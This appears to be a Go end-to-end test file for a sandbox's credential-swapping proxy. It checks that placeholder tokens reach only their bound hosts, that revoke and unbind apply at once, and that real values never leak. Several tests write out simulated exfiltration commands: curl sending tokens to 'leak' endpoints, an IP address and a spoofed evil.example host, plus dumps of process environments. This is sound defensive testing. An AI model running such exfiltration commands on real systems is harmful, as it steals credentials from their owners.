package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cagebox/cagebox/api"
	"github.com/cagebox/cagebox/client"
)

// TestCredentialSwap: the guest holds a placeholder; the upstream sees the
// real value only for the bound host; the placeholder heading elsewhere is
// refused; revoke applies to the next request; and the real value is found
// nowhere the guest could see.
func TestCredentialSwap(t *testing.T) {
	e := newDebianEnv(t)
	up := newUpstream(t, "api.example.test", "other.example.test")
	e.startDaemon(up.daemonArgs("api.example.test", "other.example.test")...)
	const real = "ghp_R3alT0kenThatMustNeverEnterTheGuest01"
	os.Setenv("GITHUB_TOKEN", real)
	defer os.Unsetenv("GITHUB_TOKEN")
	os.Setenv("CBX_VAULTED", "sk_live_VaultedRealValue000000000000abcd")
	defer os.Unsetenv("CBX_VAULTED")
	if r := e.cli("", "secret", "add", "STRIPE_KEY", "--host", "api.example.test", "--from-env", "CBX_VAULTED"); r.code != 0 {
		t.Fatalf("secret add: %+v", r)
	}
	r := e.cli("", "create", "--allow", "api.example.test", "--allow", "other.example.test",
		"--secret", "GITHUB_TOKEN@api.example.test", "--secret-in-body", "GITHUB_TOKEN", "--secret-query", "GITHUB_TOKEN:access_token",
		"--secret", "STRIPE_KEY=vault:STRIPE_KEY")
	if r.code != 0 {
		t.Fatalf("create: %+v", r)
	}
	id := strings.TrimSpace(r.stdout)
	sh := func(script string) result { t.Helper(); return e.cli("", "exec", id, "--", "sh", "-c", script) }
	if sb, err := e.client().Get(context.Background(), id); err != nil || sb.Runtime != e2eRuntime() {
		t.Fatalf("sandbox runtime: %v %v, want %s (CAGEBOX_E2E_RUNTIME)", sb, err, e2eRuntime())
	}

	r = sh(`printf %s "$GITHUB_TOKEN"`)
	ph := r.stdout
	if !strings.HasPrefix(ph, "ghp_") || ph == real || len(ph) != len(real) {
		t.Fatalf("guest's GITHUB_TOKEN = %q: want a placeholder of the same shape", ph)
	}
	n0 := len(up.requests())
	for _, c := range []struct{ name, script, want string }{
		{"header", `curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test/h`, "auth=Bearer " + real},
		{"basic", `curl -sS -u "x-access-token:$GITHUB_TOKEN" https://api.example.test/b`, "auth=Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+real))},
		{"query", `curl -sS "https://api.example.test/q?access_token=$GITHUB_TOKEN"`, "q=access_token=" + real},
		{"body", `curl -sS -d "{\"token\":\"$GITHUB_TOKEN\"}" https://api.example.test/body`, `body={"token":"` + real + `"}`},
		{"vault secret", `curl -sS -H "Authorization: Bearer $STRIPE_KEY" https://api.example.test/s`, "auth=Bearer sk_live_VaultedRealValue000000000000abcd"},
	} {
		if r := sh(c.script); r.code != 0 || strings.Contains(r.stdout, "denied") {
			t.Errorf("%s: %+v", c.name, r)
		}
		got := up.requests()
		if len(got) == 0 || !strings.Contains(got[len(got)-1], c.want) {
			t.Errorf("%s: upstream saw %q, want its last request to contain %q", c.name, got, c.want)
		}
	}
	// The placeholder to another (policy-allowed) host: refused, alert.
	for _, script := range []string{
		`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://other.example.test/leak`,
		`curl -sS "https://other.example.test/leak?t=$(printf %s "$GITHUB_TOKEN" | base64 -w0)"`,
		`curl -sS -d "$GITHUB_TOKEN" https://other.example.test/leak`,
	} {
		r := sh(script)
		if !strings.Contains(r.stdout, "denied") || !strings.Contains(r.stdout, "secret") {
			t.Errorf("placeholder to another host: %+v", r)
		}
	}
	// The placeholder in a request the proxy refuses before any swap (a
	// literal IP, a fronted Host): still refused, and an alert is raised.
	before := strings.Count(e.cli("", "events", "--json", id).stdout, `"secret.alert"`)
	for _, script := range []string{
		`curl -sS "http://203.0.113.7/leak?t=$GITHUB_TOKEN"`,
		`curl -sS -H "Host: evil.example" -H "X-T: $GITHUB_TOKEN" https://api.example.test/leak`,
	} {
		if r := sh(script); !strings.Contains(r.stdout, "denied") {
			t.Errorf("refused before the swap: %+v", r)
		}
	}
	// The event path is asynchronous: wait for both alerts.
	waitFor(t, time.Minute, "two secret.alert events for the refused requests", func() bool {
		return strings.Count(e.cli("", "events", "--json", id).stdout, `"secret.alert"`) >= before+2
	})
	if after := strings.Count(e.cli("", "events", "--json", id).stdout, `"secret.alert"`); after != before+2 {
		t.Errorf("alerts for placeholders in requests the policy refused: %d, want %d", after-before, 2)
	}
	for _, s := range up.requests()[n0:] {
		if strings.Contains(s, "other.example.test") {
			t.Errorf("upstream got a leak attempt: %s", s)
		}
	}
	// A credential-shaped string that is not ours (the guest found a real
	// token somewhere): flagged by the exfil scan, with a preview only.
	const found = "ghp_Zx81kQmV0pLr7TnWb3YhC6uJ2sDf9GaE4oIq"
	if r := sh(`curl -sS -d 'leaked=` + found + `' https://api.example.test/paste`); r.code != 0 || strings.Contains(r.stdout, "denied") {
		t.Errorf("flag mode must not block: %+v", r)
	}

	// Revoke: the very next request is refused.
	if r := e.cli("", "secret", "revoke", "STRIPE_KEY"); r.code != 0 {
		t.Fatal(r)
	}
	n1 := len(up.requests())
	if r := sh(`curl -sS -H "Authorization: Bearer $STRIPE_KEY" https://api.example.test/after-revoke`); !strings.Contains(r.stdout, "denied") {
		t.Errorf("after revoke: %+v", r)
	}
	if len(up.requests()) != n1 {
		t.Errorf("a request with a revoked secret reached the upstream")
	}

	// Unbind: the placeholder is refused from the next request on.
	if r := e.cli("", "secret", "unbind", id, "GITHUB_TOKEN"); r.code != 0 {
		t.Fatalf("unbind: %+v", r)
	}
	n2 := len(up.requests())
	if r := sh(`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test/after-unbind`); !strings.Contains(r.stdout, "denied") {
		t.Errorf("after unbind: %+v", r)
	}
	if len(up.requests()) != n2 {
		t.Errorf("a request with an unbound placeholder reached the upstream")
	}

	// The real value is nowhere the guest can see: the sandbox's whole
	// state directory on the host (for containers and gVisor the merged
	// overlay root is in it), every host process of the sandbox (guest
	// processes, runsc, QEMU: environment and command line, via the
	// sandbox's cgroups), every file the guest wrote (read from inside, so
	// also a VM's own disk), and what the agent sent back.
	_ = filepath.Walk(filepath.Join(e.home, "sandboxes", id), func(p string, fi os.FileInfo, err error) error {
		if err != nil || !fi.Mode().IsRegular() || fi.Size() > 16<<20 {
			return nil
		}
		if b, err := os.ReadFile(p); err == nil && bytes.Contains(b, []byte(real)) {
			t.Errorf("real value in sandbox file %s", p)
		}
		return nil
	})
	var procs []string
	for _, cg := range []string{"/sys/fs/cgroup/pids/cagebox/" + id, "/sys/fs/cgroup/cagebox/" + id, "/sys/fs/cgroup/pids/cagebox/vm-" + id, "/sys/fs/cgroup/cagebox/vm-" + id} {
		b, _ := os.ReadFile(filepath.Join(cg, "cgroup.procs"))
		procs = append(procs, strings.Fields(string(b))...)
	}
	if len(procs) == 0 {
		t.Error("found no host processes of the sandbox to scan")
	}
	for _, pid := range procs {
		for _, f := range []string{"environ", "cmdline"} {
			if b, err := os.ReadFile(filepath.Join("/proc", pid, f)); err == nil && bytes.Contains(b, []byte(real)) {
				t.Errorf("real value in sandbox process %s %s", pid, f)
			}
		}
	}
	written := sh("find / /tmp /run /root /home -xdev -type f -mmin -30 -size -16M -exec cat {} + 2>/dev/null; echo scanned-ok")
	if !strings.Contains(written.stdout, "scanned-ok") || strings.Contains(written.stdout, real) {
		t.Errorf("files the guest wrote: real value found or scan failed (%d bytes, code %d)", len(written.stdout), written.code)
	}
	r = sh("env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")
	if strings.Contains(r.stdout+r.stderr, real) {
		t.Error("real value in what the agent sent back")
	}
	sb, err := e.client().Get(context.Background(), id)
	if err != nil || len(sb.Secrets) != 1 || len(sb.RealInGuest) != 0 {
		t.Errorf("inspect: %+v %v", sb, err)
	}
	if strings.Contains(e.logBuf.String(), real) {
		t.Error("real value in the daemon log")
	}
	evs, _ := e.client().Events(context.Background(), id, 0)
	var alerts, used int
	for _, ev := range evs {
		switch ev.Kind {
		case "secret.alert":
			alerts++
		case "secret.used":
			used++
		}
	}
	if alerts < 3 || used < 5 {
		t.Errorf("events: %d alerts, %d used", alerts, used)
	}
	var suspect bool
	for _, ev := range evs {
		if ev.Kind == "secret.exfil_suspect" {
			b, _ := json.Marshal(ev.Data)
			if strings.Contains(string(b), found) {
				t.Errorf("exfil event carries the whole credential: %s", b)
			}
			suspect = suspect || strings.Contains(string(b), found[len(found)-4:])
		}
	}
	if !suspect {
		t.Error("no secret.exfil_suspect event for a GitHub token in a body")
	}
	r = e.cli("", "events", "--json", id)
	if strings.Contains(r.stdout, real) {
		t.Error("real value in events")
	}
	_ = api.Sandbox{}
}

// TestSecretEnvMode: the weaker model delivers the real value into the
// guest — for a stored secret only if it was stored with --allow-env — and
// says so in inspect and events.
func TestSecretEnvMode(t *testing.T) {
	e := newEnv(t)
	e.startDaemon()
	os.Setenv("DB_PASSWORD", "pg-real-password-0001")
	defer os.Unsetenv("DB_PASSWORD")
	if r := e.cli("", "secret", "add", "DB_PASSWORD", "--host", "db.example.test", "--from-env", "DB_PASSWORD", "--allow-env"); r.code != 0 || !strings.Contains(r.stdout, "mode env allowed") {
		t.Fatalf("secret add --allow-env: %+v", r)
	}
	if r := e.cli("", "secret", "ls"); !regexp.MustCompile(`(?m)^DB_PASSWORD\s.*\sallowed\s`).MatchString(r.stdout) {
		t.Fatalf("secret ls does not show env allowed:\n%s", r.stdout)
	}
	r := e.cli("", "create", "--secret", "DB_PASSWORD=vault:DB_PASSWORD", "--secret-env", "DB_PASSWORD")
	if r.code != 0 {
		t.Fatalf("create: %+v", r)
	}
	id := strings.TrimSpace(r.stdout)
	if r := e.cli("", "exec", id, "--", "sh", "-c", "printf %s \"$DB_PASSWORD\""); r.stdout != "pg-real-password-0001" {
		t.Fatalf("env mode: %+v", r)
	}
	sb, err := e.client().Get(context.Background(), id)
	if err != nil || len(sb.RealInGuest) != 1 || sb.RealInGuest[0] != "DB_PASSWORD" {
		t.Fatalf("inspect does not mark the real value in the guest: %+v %v", sb, err)
	}
	evs, _ := e.client().Events(context.Background(), id, 0)
	found := false
	for _, ev := range evs {
		found = found || ev.Kind == "secret.env_delivered"
	}
	if !found {
		t.Error("no secret.env_delivered event")
	}
	// An inline value is the caller's own: env mode needs no permission.
	os.Setenv("INLINE_PW", "inline-password-0002")
	defer os.Unsetenv("INLINE_PW")
	if r := e.cli("", "run", "--secret", "INLINE_PW@db.example.test", "--secret-env", "INLINE_PW", "--", "sh", "-c", "printf %s \"$INLINE_PW\""); r.code != 0 || r.stdout != "inline-password-0002" {
		t.Fatalf("inline env mode: %+v", r)
	}
}

// TestSecretEnvModeRefused: a tenant API key cannot read the plaintext of
// its tenant's stored secret by binding it in env mode: the create is
// refused with 403 saying how to allow it, and nothing is created. The
// permission cannot be raised without supplying a new value, so what a
// later env binding delivers is the value whoever allowed it supplied.
func TestSecretEnvModeRefused(t *testing.T) {
	e := newEnv(t)
	addr := freePort(t)
	e.startDaemon("--listen", addr)
	ctx := context.Background()
	admin := e.client()
	if _, err := admin.CreateTenant(ctx, &api.CreateTenantRequest{Name: "alpha"}); err != nil {
		t.Fatal(err)
	}
	k, err := admin.CreateKey(ctx, "alpha")
	if err != nil {
		t.Fatal(err)
	}
	a := client.TCP("http://"+addr, k.Key)
	const real = "alpha-db-password-real-7731"
	if s, err := a.PutSecret(ctx, &api.PutSecretRequest{Name: "DB_PASSWORD", Value: real, Hosts: []string{"db.example.test"}}); err != nil || s.AllowEnv {
		t.Fatalf("put: %+v %v", s, err)
	}
	for _, body := range []string{
		`{"secrets":[{"name":"DB_PASSWORD","mode":"env"}]}`,
		`{"secrets":[{"name":"PW","secret":"DB_PASSWORD","mode":"env"}]}`,
		`{"secrets":[{"name":"OK","value":"inline-is-fine","hosts":["x.example.test"],"mode":"env"},{"name":"DB_PASSWORD","mode":"env"}]}`,
	} {
		resp, err := a.Raw(ctx, "POST", "/v1/sandboxes", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		var ae api.Error
		_ = json.NewDecoder(resp.Body).Decode(&ae)
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(ae.Error, "--allow-env") || strings.Contains(ae.Error, real) {
			t.Errorf("create %s: %d %q, want 403 saying how to allow it", body, resp.StatusCode, ae.Error)
		}
	}
	// The permission cannot be raised on its own.
	resp, err := a.Raw(ctx, "PUT", "/v1/secrets/DB_PASSWORD", "application/json", strings.NewReader(`{"allow_env":true}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("raise allow_env without a value: %d, want 400", resp.StatusCode)
	}
	if l, err := a.Secrets(ctx); err != nil || len(l) != 1 || l[0].AllowEnv || l[0].Version != 1 {
		t.Fatalf("secrets after the attempts: %+v %v", l, err)
	}
	// Nothing was created: no sandbox of any tenant, no inline secret, no
	// state dir.
	for who, c := range map[string]*client.Client{"alpha": a, "admin": admin} {
		if l, err := c.List(ctx); err != nil || len(l) != 0 {
			t.Errorf("%s lists sandboxes after refused creates: %+v %v", who, l, err)
		}
	}
	if ents, _ := os.ReadDir(filepath.Join(e.home, "sandboxes")); len(ents) > 0 {
		t.Errorf("refused creates left state dirs: %v", ents)
	}
	if n := countLinks(t); n != 0 {
		t.Errorf("refused creates left %d links", n)
	}
	// Allowed together with a new value, env mode delivers that value.
	yes := true
	if s, err := a.RotateSecretWith(ctx, "DB_PASSWORD", &api.RotateSecretRequest{Value: "value-the-allower-chose", AllowEnv: &yes}); err != nil || !s.AllowEnv {
		t.Fatalf("rotate --allow-env: %+v %v", s, err)
	}
	sb, err := a.Create(ctx, &api.CreateSandboxRequest{Secrets: []api.SecretBinding{{Name: "DB_PASSWORD", Mode: "env"}}})
	if err != nil {
		t.Fatalf("create after allowing: %v", err)
	}
	var out strings.Builder
	if res, err := a.Exec(ctx, sb.ID, &api.ExecRequest{Argv: []string{"sh", "-c", "printf %s \"$DB_PASSWORD\""}}, nil, &out, &out); err != nil || *res.ExitCode != 0 || out.String() != "value-the-allower-chose" {
		t.Fatalf("env value after allowing: %q %v", out.String(), err)
	}
	if strings.Contains(e.logBuf.String(), real) {
		t.Error("the real value reached the daemon log")
	}
}

// TestCredentialHostsNarrowed: a sandbox binds a stored secret whose hosts
// are two upstream names; the secret is then stored again with only the
// first (`cagebox secret add` replaces its hosts). From the next request
// on, the running sandbox's placeholder toward the second name is refused
// (403 by secret:NAME, secret.alert) and that upstream never sees the real
// value, while the first name still gets it; neither the refusal, the
// events nor the daemon log carry the value.
func TestCredentialHostsNarrowed(t *testing.T) {
	const first, second = "first.example.test", "second.example.test"
	e := newDebianEnv(t)
	up := newUpstream(t, first, second)
	e.startDaemon(up.daemonArgs(first, second)...)
	const real = "sk_live_NarrowedRealValue0000000000abcd"
	valueEnv := []string{"CBX_NARROWED=" + real}
	if r := e.cliEnv(valueEnv, "", "secret", "add", "API_KEY", "--host", first+","+second, "--from-env", "CBX_NARROWED"); r.code != 0 {
		t.Fatalf("secret add: %+v", r)
	}
	r := e.cli("", "create", "--allow", first, "--allow", second, "--secret", "API_KEY=vault:API_KEY")
	if r.code != 0 {
		t.Fatalf("create: %+v", r)
	}
	id := strings.TrimSpace(r.stdout)
	sh := func(script string) result { t.Helper(); return e.cli("", "exec", id, "--", "sh", "-c", script) }
	last := func() string {
		got := up.requests()
		if len(got) == 0 {
			return ""
		}
		return got[len(got)-1]
	}
	call := func(host, path string) result {
		t.Helper()
		return sh(`curl -sS -H "Authorization: Bearer $API_KEY" https://` + host + path)
	}

	// Bound toward both names: both get the real value.
	for _, host := range []string{first, second} {
		if r := call(host, "/before"); r.code != 0 || strings.Contains(r.stdout, "denied") {
			t.Fatalf("%s before narrowing: %+v", host, r)
		}
		if got := last(); !strings.Contains(got, host+" /before") || !strings.Contains(got, "auth=Bearer "+real) {
			t.Fatalf("%s before narrowing: upstream saw %q", host, got)
		}
	}

	if r := e.cliEnv(valueEnv, "", "secret", "add", "API_KEY", "--host", first, "--from-env", "CBX_NARROWED"); r.code != 0 {
		t.Fatalf("secret add (narrowed): %+v", r)
	}
	n := len(up.requests())
	r = call(second, "/after")
	if !strings.Contains(r.stdout, "denied") || !strings.Contains(r.stdout, `"rule":"secret:API_KEY"`) || strings.Contains(r.stdout+r.stderr, real) {
		t.Errorf("placeholder toward the name taken away: %+v, want a 403 by secret:API_KEY", r)
	}
	for _, s := range up.requests()[n:] {
		if strings.Contains(s, real) || strings.Contains(s, second) {
			t.Errorf("the name taken away reached the upstream: %s", s)
		}
	}
	if r := call(first, "/after"); r.code != 0 || strings.Contains(r.stdout, "denied") {
		t.Errorf("%s after narrowing: %+v", first, r)
	}
	if got := last(); !strings.Contains(got, first+" /after") || !strings.Contains(got, "auth=Bearer "+real) {
		t.Errorf("%s after narrowing: upstream saw %q", first, got)
	}

	evs, err := e.client().Events(context.Background(), id, 0)
	if err != nil {
		t.Fatal(err)
	}
	alerted := false
	for _, ev := range evs {
		b, _ := json.Marshal(ev)
		if strings.Contains(string(b), real) {
			t.Errorf("a real value in an event: %s", b)
		}
		var d struct{ Rule, Host string }
		if ev.Kind == "secret.alert" && json.Unmarshal(b, &struct {
			Data *struct{ Rule, Host string } `json:"data"`
		}{&d}) == nil && d.Rule == "secret:API_KEY" && d.Host == second {
			alerted = true
		}
	}
	if !alerted {
		t.Errorf("no secret.alert by secret:API_KEY for %s in %+v", second, evs)
	}
	if strings.Contains(e.logBuf.String(), real) {
		t.Error("real value in the daemon log")
	}
}
